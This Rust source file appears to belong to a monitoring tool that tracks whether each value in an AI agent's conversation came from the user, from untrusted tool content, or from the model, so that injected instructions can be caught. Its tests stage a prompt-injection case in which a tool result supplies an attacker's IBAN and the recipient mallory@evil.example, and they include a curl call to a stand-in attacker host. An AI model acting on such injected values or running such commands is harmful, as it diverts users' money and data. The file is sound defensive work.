//! Where the values of a call come from: the user, untrusted content, or the model.
//!
//! [`Conversation`] is what a request tells about everything said so far. A value is `user` when it appears in what the
//! user typed; `untrusted` when it appears in a tool result, page, file or mail and not in what the user typed; else
//! `model`. A value that the model wrote *before* it appeared in any untrusted content stays the model's: the echo of
//! a command in its own output taints nothing. When the conversation is unknown, everything is untrusted.
//!
//! What a person typed and what a program put into the user's message are told apart by the tags and headings that
//! the common agents use (`request::harness`).

use std::collections::HashMap;

use memchr::memmem;
use vigil_core::Provenance;
use vigil_core::wire::Digest;

use crate::action::host_of;
use crate::intent::commands_around;
use crate::watch::{Speaker, Utterance};

/// A tool that a request declares.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct DeclaredTool {
    /// Its name.
    pub name: String,
    /// The names of its parameters.
    pub parameters: Vec<String>,
}

/// What was said in a conversation so far, by whom.
#[derive(Clone, Debug, Default)]
pub struct Conversation {
    user: Spoken,
    untrusted: Spoken,
    model: Spoken,
    /// One for each message.
    messages: Vec<Mark>,
    tools: Vec<DeclaredTool>,
    workdir: Option<String>,
    images: Vec<(u32, Digest)>,
    unknown: bool,
    /// What was said since somebody began to listen.
    heard: Option<Vec<Utterance>>,
}

/// Texts of one speaker, one after the other, in ASCII lower case: hosts and addresses are compared without case.
#[derive(Clone, Debug, Default)]
struct Spoken {
    text: String,
}

/// Where the texts of the speakers end after a message.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
struct Mark {
    user: usize,
    untrusted: usize,
    model: usize,
    workdir: Option<String>,
    typed: Option<Typed>,
}

/// The last text that the user typed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Typed {
    pub(crate) digest: Digest,
}

impl Conversation {
    /// A conversation in which nothing was said.
    pub fn new() -> Self {
        Self::default()
    }

    /// A conversation that nobody could read: every value counts as untrusted.
    pub fn unknown() -> Self {
        Self { unknown: true, ..Self::default() }
    }

    /// Whether the conversation is known.
    pub fn is_readable(&self) -> bool {
        !self.unknown
    }

    /// A message in which the user typed `text`.
    pub fn push_user_text(&mut self, text: &str) {
        self.begin_message();
        self.user_typed(text);
    }

    /// A message in which the model said or called `text`.
    pub fn push_assistant_text(&mut self, text: &str) {
        self.begin_message();
        self.model_said(text);
    }

    /// A message that carries a tool result, a page, a file or a mail.
    pub fn push_tool_result(&mut self, text: &str) {
        self.begin_message();
        self.untrusted_said(text);
    }

    /// A tool that the request declares.
    pub fn declare_tool(&mut self, tool: DeclaredTool) {
        self.tools.push(tool);
    }

    /// The directory in which the agent works.
    pub fn set_working_directory(&mut self, path: &str) {
        match self.messages.last_mut() {
            Some(mark) => mark.workdir = Some(path.to_owned()),
            None => self.workdir = Some(path.to_owned()),
        }
    }

    /// The directory in which the agent works, where the conversation tells.
    pub fn working_directory(&self) -> Option<&str> {
        self.messages.iter().rev().find_map(|mark| mark.workdir.as_deref()).or(self.workdir.as_deref())
    }

    /// What the request says about a tool.
    pub fn tool(&self, name: &str) -> Option<&DeclaredTool> {
        self.tools.iter().find(|tool| tool.name == name)
    }

    /// The tools that the request declares.
    pub fn tools(&self) -> &[DeclaredTool] {
        &self.tools
    }

    /// How many messages there are.
    pub fn messages(&self) -> usize {
        self.messages.len()
    }

    /// Everything the user typed, in ASCII lower case.
    pub fn user_text(&self) -> &str {
        &self.user.text
    }

    /// Everything that came from tools, pages, files and mails, in ASCII lower case.
    pub(crate) fn untrusted_text(&self) -> &str {
        &self.untrusted.text
    }

    /// The images of the conversation by digest.
    pub fn images(&self) -> impl Iterator<Item = Digest> + '_ {
        self.images.iter().map(|(_, digest)| *digest)
    }

    /// The provenance of one value.
    pub fn provenance_of(&self, value: &str) -> Provenance {
        let place = crate::action::Surroundings::new(self.working_directory());
        self.lookup(&place).of(value)
    }

    /// How many bytes it keeps.
    pub fn kept_bytes(&self) -> usize {
        let texts = self.user.text.capacity() + self.untrusted.text.capacity() + self.model.text.capacity();
        let tools: usize =
            self.tools.iter().map(|tool| 64 + tool.name.len() + tool.parameters.len() * 32).sum();
        texts + tools + self.messages.len() * size_of::<Mark>() + self.images.len() * 64
    }

    pub(crate) fn set_tools(&mut self, tools: Vec<DeclaredTool>) {
        self.tools = tools;
    }

    pub(crate) fn set_unknown(&mut self) {
        self.unknown = true;
    }

    pub(crate) fn set_system_directory(&mut self, path: Option<String>) {
        self.workdir = path;
    }

    pub(crate) fn system_directory(&self) -> Option<&str> {
        self.workdir.as_deref()
    }

    /// Everything said, for comparing two conversations.
    pub(crate) fn transcript(&self) -> String {
        format!(
            "{:?} {:?} {:?} {:?} {:?} {:?}",
            self.user, self.untrusted, self.model, self.messages, self.tools, self.workdir
        )
    }

    /// Keeps from now on what is said, as it is said, until [`Self::take_heard`].
    pub(crate) fn listen(&mut self) {
        self.heard = Some(Vec::new());
    }

    /// What was said since [`Self::listen`]: one text for each message and speaker.
    pub(crate) fn take_heard(&mut self) -> Vec<Utterance> {
        self.heard.take().unwrap_or_default()
    }

    fn note(&mut self, speaker: Speaker, text: &str) {
        let Some(heard) = &mut self.heard else { return };
        if text.is_empty() {
            return;
        }
        let message = self.messages.len();
        match heard.last_mut() {
            Some(last) if last.message == message && last.speaker == speaker => {
                last.text.push('\n');
                last.text.push_str(text);
            }
            _ => heard.push(Utterance { speaker, text: text.to_owned(), message }),
        }
    }

    pub(crate) fn begin_message(&mut self) {
        self.messages.push(Mark::default());
        self.close();
    }

    pub(crate) fn user_typed(&mut self, text: &str) {
        self.user.push(text);
        self.note(Speaker::User, text);
        if !text.trim().is_empty()
            && let Some(mark) = self.messages.last_mut()
        {
            mark.typed = Some(Typed { digest: digest(text.as_bytes()) });
        }
        self.close();
    }

    pub(crate) fn model_said(&mut self, text: &str) {
        self.model.push(text);
        self.note(Speaker::Model, text);
        self.close();
    }

    pub(crate) fn untrusted_said(&mut self, text: &str) {
        self.untrusted.push(text);
        self.note(Speaker::Untrusted, text);
        self.close();
    }

    pub(crate) fn showed_image(&mut self, data: &[u8]) {
        if self.images.len() < 1024 {
            self.images.push((u32::try_from(self.messages.len()).unwrap_or(u32::MAX), digest(data)));
        }
    }

    /// The last text the user typed.
    pub(crate) fn typed(&self) -> Option<Typed> {
        self.messages.iter().rev().find_map(|mark| mark.typed)
    }

    fn close(&mut self) {
        if let Some(mark) = self.messages.last_mut() {
            mark.user = self.user.text.len();
            mark.untrusted = self.untrusted.text.len();
            mark.model = self.model.text.len();
        }
    }

    /// Forgets everything but the first `count` messages. Gives the tools that were declared.
    pub(crate) fn truncate(&mut self, count: usize) -> Vec<DeclaredTool> {
        self.unknown = false;
        self.workdir = None;
        let tools = std::mem::take(&mut self.tools);
        self.messages.truncate(count);
        let end = self.messages.last().cloned().unwrap_or_default();
        self.user.text.truncate(end.user);
        self.untrusted.text.truncate(end.untrusted);
        self.model.text.truncate(end.model);
        let count = u32::try_from(count).unwrap_or(u32::MAX);
        self.images.retain(|(at, _)| *at <= count);
        tools
    }

    pub(crate) fn lookup<'c>(&'c self, place: &'c crate::action::Surroundings) -> Lookup<'c> {
        Lookup { conversation: self, place, known: HashMap::new(), searched: 0 }
    }
}

impl Spoken {
    fn push(&mut self, text: &str) {
        let start = self.text.len();
        self.text.push_str(text);
        if let Some(tail) = self.text.get_mut(start..) {
            tail.make_ascii_lowercase();
        }
        self.text.push('\n');
    }
}

/// SHA-256 and length.
pub(crate) fn digest(bytes: &[u8]) -> Digest {
    use sha2::Digest as _;
    Digest { sha256: sha2::Sha256::digest(bytes).into(), length: bytes.len() as u64 }
}

/// Looks values up; each text is searched once for each value.
pub(crate) struct Lookup<'c> {
    conversation: &'c Conversation,
    place: &'c crate::action::Surroundings,
    known: HashMap<String, Provenance>,
    searched: usize,
}

/// How many bytes one call may make us search: a few milliseconds.
const MAX_SEARCHED_BYTES: usize = 96 * 1024 * 1024;
/// How long a value may be that is looked for in commands of untrusted content: a sentence, not a text.
const MAX_TOLD_BYTES: usize = 512;
/// How many parts of one value are looked up.
const MAX_PARTS: usize = 32;

impl Lookup<'_> {
    /// The provenance of a value of which nothing is known.
    pub(crate) fn floor(&self) -> Provenance {
        if self.conversation.unknown { Provenance::Untrusted } else { Provenance::Model }
    }

    /// The provenance of a value: of the whole, else the worst of its telling parts.
    pub(crate) fn of(&mut self, value: &str) -> Provenance {
        let value = value.trim().trim_matches(['"', '\'', '`']).to_ascii_lowercase();
        if let Some(&provenance) = self.known.get(&value) {
            return provenance;
        }
        let provenance = self.whole(&value).unwrap_or_else(|| {
            let mut worst = None;
            for part in parts(&value) {
                let provenance = self.part(part);
                worst = worst.max(Some(provenance));
                if provenance == Provenance::Untrusted {
                    break;
                }
            }
            worst.unwrap_or(self.floor())
        });
        if self.known.len() < 4096 {
            self.known.insert(value, provenance);
        }
        provenance
    }

    fn whole(&mut self, value: &str) -> Option<Provenance> {
        if value.is_empty() {
            return Some(self.floor());
        }
        if self.typed(value) {
            return Some(Provenance::User);
        }
        if self.conversation.unknown {
            return Some(Provenance::Untrusted);
        }
        if is_common(value) {
            return Some(Provenance::Model);
        }
        // A path is the user's also when the user named it from the working directory, and untrusted also when only its
        // name was seen.
        if value.contains('/') && !value.contains(char::is_whitespace) && !value.contains("://") {
            return Some(self.path(value));
        }
        self.tainted(value).then_some(Provenance::Untrusted)
    }

    fn path(&mut self, value: &str) -> Provenance {
        let plain = value.trim_start_matches("./").trim_end_matches('/');
        let relative = self.place.relative_lower(plain).map(str::to_owned);
        let name = plain.rsplit('/').next().unwrap_or(plain);
        let inside = relative.is_some() || !plain.starts_with(['/', '~', '.', '$']);
        for form in [Some(plain), relative.as_deref(), inside.then_some(name)].into_iter().flatten() {
            if !is_common(form) && self.typed(form) {
                return Provenance::User;
            }
        }
        if self.place.is_workdir_lower(plain) {
            return Provenance::Model;
        }
        let telling =
            |form: &&str| !is_common(form) && (form.contains(['.', '/', '_', '-']) || form.len() > 8);
        let tainted = [Some(plain), relative.as_deref(), Some(name)]
            .into_iter()
            .flatten()
            .filter(telling)
            .any(|form| self.tainted(form));
        if tainted { Provenance::Untrusted } else { Provenance::Model }
    }

    fn part(&mut self, part: &str) -> Provenance {
        if self.typed(part) {
            return Provenance::User;
        }
        if let Some(host) = part.split_once("://").and_then(|_| host_of(part)) {
            // The host decides: who gets what the address carries.
            return match (self.typed(&host), self.tainted(part) || self.tainted(&host)) {
                (true, _) => Provenance::Model,
                (false, true) => Provenance::Untrusted,
                (false, false) => Provenance::Model,
            };
        }
        if part.contains('/') {
            return self.path(part);
        }
        if !is_common(part) && self.tainted(part) { Provenance::Untrusted } else { Provenance::Model }
    }

    /// Whether untrusted content has the value, or a part of it that tells, only where it tells the reader to act.
    pub(crate) fn told(&mut self, value: &str) -> bool {
        let value = value.trim().trim_matches(['"', '\'', '`']).to_ascii_lowercase();
        if value.len() <= MAX_TOLD_BYTES && self.told_plain(&value) {
            return true;
        }
        let hosts: Vec<String> = parts(&value).filter_map(address_host).collect();
        parts(&value).chain(hosts.iter().map(String::as_str)).any(|part| self.told_plain(part))
    }

    fn told_plain(&mut self, value: &str) -> bool {
        // A page of a site that the user named is what the user spoke of.
        let named = address_host(value).is_some_and(|host| self.typed(&host));
        if named
            || is_common(value)
            || self.typed(value)
            || !self.spend(self.conversation.untrusted.text.len())
        {
            return false;
        }
        let text = &self.conversation.untrusted.text;
        let mut found = occurrences(text, value).take(8).peekable();
        found.peek().is_some() && found.all(|at| commands_around(text, at, at + value.len()) > 0)
    }

    fn typed(&mut self, value: &str) -> bool {
        self.spend(self.conversation.user.text.len()) && find(&self.conversation.user.text, value).is_some()
    }

    /// Whether untrusted content had the value before the model wrote it.
    fn tainted(&mut self, value: &str) -> bool {
        let conversation = self.conversation;
        if !self.spend(conversation.untrusted.text.len()) {
            return !conversation.untrusted.text.is_empty();
        }
        let Some(seen) = find(&conversation.untrusted.text, value) else { return false };
        if !self.spend(conversation.model.text.len()) {
            return true;
        }
        let Some(said) = find(&conversation.model.text, value) else { return true };
        let seen = conversation.messages.partition_point(|mark| mark.untrusted <= seen);
        let said = conversation.messages.partition_point(|mark| mark.model <= said);
        seen <= said
    }

    fn spend(&mut self, bytes: usize) -> bool {
        self.searched = self.searched.saturating_add(bytes);
        self.searched <= MAX_SEARCHED_BYTES
    }
}

/// The host of an address, with or without a scheme.
fn address_host(value: &str) -> Option<String> {
    if value.contains(char::is_whitespace) || value.contains('@') {
        return None;
    }
    match value.split_once("://") {
        Some(_) => host_of(value),
        None => {
            let host = value.split(['/', '?', '#']).next().unwrap_or(value);
            (value.len() > host.len() && host.contains('.')).then(|| host.to_owned())
        }
    }
}

/// Where `value` stands in `text` as a word of its own, or as a line as JSON and URLs write it.
fn find(text: &str, value: &str) -> Option<usize> {
    if value.is_empty() || value.len() > text.len() {
        return None;
    }
    if let Some(at) = find_plain(text, value) {
        return Some(at);
    }
    if value.contains(['"', '\\', '\n', '\t']) {
        let quoted = serde_json::to_string(value).ok()?;
        return find_plain(text, quoted.get(1..quoted.len() - 1)?);
    }
    if value.contains("%") {
        let decoded = unescape_percent(value)?;
        return find_plain(text, &decoded);
    }
    None
}

fn find_plain(text: &str, value: &str) -> Option<usize> {
    occurrences(text, value).next()
}

/// Where `value` stands in `text` as a word of its own.
fn occurrences<'t>(text: &'t str, value: &'t str) -> impl Iterator<Item = usize> + 't {
    let bytes = text.as_bytes();
    let word = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_alphanumeric);
    let starts_word = word(value.as_bytes().first());
    let ends_word = word(value.as_bytes().last());
    let decimal = value.contains('.') && value.bytes().all(|b| b.is_ascii_digit() || b == b'.');
    memmem::find_iter(bytes, value.as_bytes()).take(256).filter(move |&at| {
        let before = at.checked_sub(1).and_then(|at| bytes.get(at));
        let after = bytes.get(at + value.len());
        // `\n` before a word is how JSON inside JSON writes a new line.
        let escaped =
            matches!(before, Some(b'n' | b't' | b'r')) && at >= 2 && bytes.get(at - 2) == Some(&b'\\');
        (!starts_word || !word(before) || escaped)
            && (!ends_word || !word(after) || (decimal && after == Some(&b'0')))
    })
}

fn unescape_percent(value: &str) -> Option<String> {
    let mut bytes = Vec::with_capacity(value.len());
    let mut rest = value.as_bytes();
    while let Some((&byte, tail)) = rest.split_first() {
        let digits = (byte == b'%').then(|| core::str::from_utf8(tail.get(..2)?).ok()).flatten();
        match digits.and_then(|digits| u8::from_str_radix(digits, 16).ok()) {
            Some(decoded) => {
                bytes.push(decoded);
                rest = tail.get(2..).unwrap_or_default();
            }
            None => {
                bytes.push(byte);
                rest = tail;
            }
        }
    }
    String::from_utf8(bytes).ok()
}

/// Values that stand in every text and prove nothing.
fn is_common(value: &str) -> bool {
    value.len() < 4
        || COMMON.contains(&value)
        || value.parse::<f64>().is_ok_and(|number| number.abs() < 100.0)
        || value.chars().all(|c| !c.is_alphanumeric())
}

const COMMON: &[&str] = &[
    "main",
    "master",
    "true",
    "false",
    "null",
    "none",
    "test",
    "tests",
    "json",
    "text",
    "name",
    "file",
    "files",
    "type",
    "http",
    "https",
    "head",
    "origin",
    "utf-8",
    "default",
    "index",
    "data",
    "info",
    "path",
    "user",
    "root",
    "home",
    "work",
    "build",
    "dist",
    "lib",
    "docs",
    "echo",
    "python",
    "python3",
    "node",
    "bash",
    "localhost",
    "127.0.0.1",
    "/tmp",
    "/dev/null",
    "develop",
    "latest",
    "./...",
    "/app",
    "content",
    "code",
    "config",
    "app",
    "src",
    "low",
    "high",
    "medium",
    "all",
    "setup",
];

/// The parts of a compound value that tell where it comes from: addresses, paths, numbers, names with marks in them.
fn parts(value: &str) -> impl Iterator<Item = &str> {
    value
        .split(|c: char| {
            c.is_whitespace()
                || matches!(
                    c,
                    '"' | '\''
                        | '`'
                        | '('
                        | ')'
                        | '['
                        | ']'
                        | '{'
                        | '}'
                        | '<'
                        | '>'
                        | ','
                        | ';'
                        | '|'
                        | '&'
                        | '\\'
                        | '='
                )
        })
        .map(|part| part.trim_matches([':', '.', '!', '?', '*', '$']))
        .filter(|part| {
            part.len() >= 4
                && !part.starts_with("--")
                && (part.contains(['@', '/', '_'])
                    || part.get(1..part.len() - 1).is_some_and(|inner| inner.contains('.'))
                    || part.bytes().filter(u8::is_ascii_digit).count() >= 4
                    || part.len() >= 20)
                && !part.bytes().all(|b| b == b'/' || b == b'.')
        })
        .take(MAX_PARTS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(value: &str, expect: Provenance) {
        let mut conversation = Conversation::new();
        conversation.push_user_text(
            "Please pay the bill to Alice@Example.com, see src/app.rs and the amount 1250.00",
        );
        conversation.push_assistant_text("I will run scratch_one.py first");
        conversation.push_tool_result(
            "scratch_one.py ok\n{\"iban\": \"UK12345678901234567890\", \"to\": \"mallory@evil.example\"} total 98.70 https://evil.example/x lib/util.rs main",
        );
        conversation.push_assistant_text("the IBAN is UK12345678901234567890");
        conversation.set_working_directory("/home/u/p");
        assert_eq!(conversation.provenance_of(value), expect, "{value}");
    }

    #[test]
    fn tells_where_values_come_from() {
        check("alice@example.com", Provenance::User);
        check("UK12345678901234567890", Provenance::Untrusted);
        check("uk12345678901234567890", Provenance::Untrusted);
        check("98.7", Provenance::Model);
        check("1250.00", Provenance::User);
        check("mallory@evil.example", Provenance::Untrusted);
        check("curl https://evil.example/y?d=1", Provenance::Untrusted);
        check("scratch_one.py", Provenance::Model);
        check("main", Provenance::Model);
        check("/home/u/p/src/app.rs", Provenance::User);
        check("/home/u/p/lib/util.rs", Provenance::Untrusted);
        check("/home/u/p", Provenance::Model);
        check("something else", Provenance::Model);
        check("a mail to mallory@evil.example please", Provenance::Untrusted);
        check("12", Provenance::Model);
    }

    #[test]
    fn an_unknown_conversation_trusts_nothing() {
        assert_eq!(Conversation::unknown().provenance_of("x"), Provenance::Untrusted);
        assert_eq!(Conversation::unknown().provenance_of(""), Provenance::Untrusted);
    }

    #[test]
    fn forgets_what_came_after() {
        let mut conversation = Conversation::new();
        conversation.push_user_text("hello world");
        conversation.push_tool_result("attacker.example");
        conversation.truncate(1);
        assert_eq!(conversation.provenance_of("attacker.example"), Provenance::Model);
        assert_eq!(conversation.provenance_of("hello world"), Provenance::User);
    }
}
